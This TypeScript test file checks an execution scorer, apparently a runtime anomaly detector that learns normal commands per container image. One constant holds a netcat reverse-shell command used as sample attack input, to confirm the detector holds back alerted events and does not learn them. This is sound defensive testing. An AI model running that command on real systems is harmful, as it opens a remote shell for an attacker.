import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { DAY_MS, DAY_ONE_MS, makeEvent } from '../testing/make-event.ts';
import { ExecutionScorer } from './execution-scorer.ts';

const NEW_COMMAND = 'node /srv/app/migrate.js --dry-run';
const ATTACK = 'nc -e /bin/sh 10.0.0.1 4444';

/** A workload that ran image `a` for a while, and since yesterday `b`. */
function deployed(): ExecutionScorer {
  const scorer = new ExecutionScorer();
  for (let time = 0; time < 50; time += 1)
    scorer.learn(makeEvent('node /srv/app/server.js', { image: 'a', t: DAY_ONE_MS + time }));
  scorer.endLearning();
  scorer.observe(makeEvent('node /srv/app/server.js', { image: 'b', t: DAY_ONE_MS + DAY_MS }));
  return scorer;
}

describe('a new image', () => {
  test('is still compared with the old one, and unremarkable news is learned at once', () => {
    const scorer = deployed();
    const event = makeEvent(NEW_COMMAND, { image: 'b', t: DAY_ONE_MS + DAY_MS + 1 });
    const first = scorer.observe(event);
    assert.ok(first.score > 0.1);
    assert.equal(first.lesson, 'learned');
  });

  test('teaches nothing that is alerted about', () => {
    const event = makeEvent(ATTACK, { image: 'b', t: DAY_ONE_MS + DAY_MS + 1 });
    assert.equal(deployed().observe(event).lesson, 'held');
  });

  test('is new for a day', () => {
    const event = makeEvent(NEW_COMMAND, { image: 'b', t: DAY_ONE_MS + 3 * DAY_MS });
    assert.equal(deployed().observe(event).lesson, 'watched');
  });

  test('teaches a bounded number of shapes', () => {
    const scorer = deployed();
    const lessons = Array.from({ length: 400 }, (_, at) => {
      const argv = [
        'node',
        '/srv/app/server.js',
        `--${'abcdefghij'[at % 10]}${'x'.repeat(at / 10)}`,
      ];
      return scorer.observe(makeEvent('node', { argv, image: 'b', t: DAY_ONE_MS + DAY_MS + at }))
        .lesson;
    });
    assert.ok(lessons.filter((lesson) => lesson === 'learned').length <= 200);
  });

  test('is not the first image of a workload', () => {
    const scorer = deployed();
    const event = makeEvent(NEW_COMMAND, { image: 'a', t: DAY_ONE_MS + 10 });
    assert.equal(scorer.observe(event).lesson, 'watched');
  });
});
